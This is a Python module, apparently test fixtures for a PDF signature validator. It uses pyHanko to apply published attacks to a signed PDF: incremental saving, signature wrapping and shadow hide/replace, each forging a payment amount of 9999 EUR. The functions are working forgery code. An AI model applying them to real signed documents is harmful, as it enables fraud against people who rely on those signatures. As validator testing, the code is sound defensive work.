"""Known attacks on PDF signatures, applied to a signed PDF.

- Incremental saving attack (Mladenov et al., "1 Trillion Dollar Refund", CCS 2019): an
  incremental update that redefines the page's content after signing.
- Signature wrapping (same paper): content smuggled into the unsigned gap of the byte range
  while the signed bytes stay as they were.
- Shadow attacks (Mainka, Mladenov, Rohlmann, NDSS 2021), content prepared before signing and
  revealed after by an update that looks harmless:
  hide (a form field filled in after signing whose appearance covers the text; or an
  annotation), replace (an object of the signed revision overwritten), hide-and-replace (the
  page pointed to content that was already in the signed file, unused).
"""

from __future__ import annotations

import io
import re

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import NameObject as N
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

FORGED = b"BT /F1 18 Tf 72 760 Td (Importe: 9999 EUR) Tj ET"


def _writer(pdf: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(pdf))


def _out(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(writer: IncrementalPdfFileWriter):
    ref = writer.root["/Pages"]["/Kids"][0]
    return ref, ref.get_object()


def incremental_saving(pdf: bytes) -> bytes:
    """A new content stream for the page, added in an incremental update."""
    writer = _writer(pdf)
    _, page = _page(writer)
    page[N("/Contents")] = writer.add_object(generic.StreamObject(stream_data=FORGED))
    writer.update_container(page)
    return _out(writer)


def appended_garbage(pdf: bytes) -> bytes:
    """Bytes appended after the last %%EOF, outside any revision."""
    return pdf + b"\n1000 0 obj (appended) endobj\n"


def signature_wrapping(pdf: bytes) -> bytes:
    """Shorten /Contents and put a new dictionary entry in the freed, unsigned gap."""
    match = re.search(rb"/Contents\s*<([0-9a-fA-F]+)>", pdf)
    assert match is not None
    hexdata = match.group(1)
    trimmed = hexdata.rstrip(b"0")
    trimmed += b"0" * (len(trimmed) % 2)
    injected = b"> /Injected (Importe: 9999 EUR)"
    filler = len(hexdata) - len(trimmed) - len(injected) + 1
    assert filler > 0
    replacement = trimmed + injected + b" " * filler
    start, end = match.start(1), match.end(1) + 1  # include the closing '>'
    forged = pdf[:start] + replacement + pdf[end:]
    assert len(forged) == len(pdf)
    return forged


def shadow_hide_form(pdf: bytes) -> bytes:
    """Fill in the form field prepared before signing: its appearance covers the amount."""
    writer = _writer(pdf)
    widget_ref = writer.root["/AcroForm"]["/Fields"][0]
    widget = widget_ref.get_object()
    appearance = writer.add_object(generic.StreamObject(
        {N("/Type"): N("/XObject"), N("/Subtype"): N("/Form"),
         N("/BBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 200, 30)])},
        stream_data=b"1 1 1 rg 0 0 200 30 re f 0 0 0 rg BT /Helv 18 Tf 2 8 Td (9999 EUR) Tj ET"))
    widget[N("/V")] = generic.TextStringObject("9999 EUR")
    widget[N("/AP")] = generic.DictionaryObject({N("/N"): appearance})
    writer.update_container(widget)
    return _out(writer)


def shadow_hide_annotation(pdf: bytes) -> bytes:
    """A white square annotation over the amount, added after signing."""
    writer = _writer(pdf)
    ref, page = _page(writer)
    annot = writer.add_object(generic.DictionaryObject({
        N("/Type"): N("/Annot"), N("/Subtype"): N("/Square"),
        N("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in (70, 750, 300, 785)]),
        N("/IC"): generic.ArrayObject([generic.FloatObject(1)] * 3),
        N("/P"): ref,
    }))
    annots = page.get("/Annots")
    page[N("/Annots")] = generic.ArrayObject([*(annots or []), annot])
    writer.update_container(page)
    return _out(writer)


def shadow_replace(pdf: bytes) -> bytes:
    """Overwrite the signed revision's content stream object with new text (same number)."""
    writer = _writer(pdf)
    _, page = _page(writer)
    content_ref = page.raw_get("/Contents")
    writer.mark_update(content_ref)
    stream = content_ref.get_object()
    stream._data = FORGED
    stream._encoded_data = None
    return _out(writer)


def shadow_hide_and_replace(pdf: bytes) -> bytes:
    """Point the page at content that was already in the signed file, unused."""
    writer = _writer(pdf)
    _, page = _page(writer)
    page[N("/Contents")] = writer.root.raw_get("/CedulaTestHidden")
    writer.update_container(page)
    return _out(writer)


def truncated(pdf: bytes) -> bytes:
    return pdf[: len(pdf) * 2 // 3]
